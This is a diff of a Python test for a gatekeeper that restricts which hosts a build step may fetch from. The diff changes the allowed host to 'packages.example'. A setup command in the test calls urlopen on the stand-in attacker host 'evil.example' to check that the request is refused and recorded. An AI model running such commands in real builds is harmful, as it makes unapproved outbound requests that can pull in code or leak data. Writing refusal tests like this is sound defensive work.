@@ -116,7 +116,7 @@ def test_the_same_with_npm(tmp_path):
 
 
 def test_what_is_refused_is_told_and_stands_in_the_artifact(tmp_path):
-    keeper = gatekeeper(tmp_path / "data", fetch=("pypi.org",))
+    keeper = gatekeeper(tmp_path / "data", fetch=("packages.example",))
     ask = "python -c \"import urllib.request; urllib.request.urlopen('http://evil.example/x')\""
     results = verified(keeper, tree(tmp_path / "1"), ("setup", ask), ("test", "true"))
     (failed,) = results
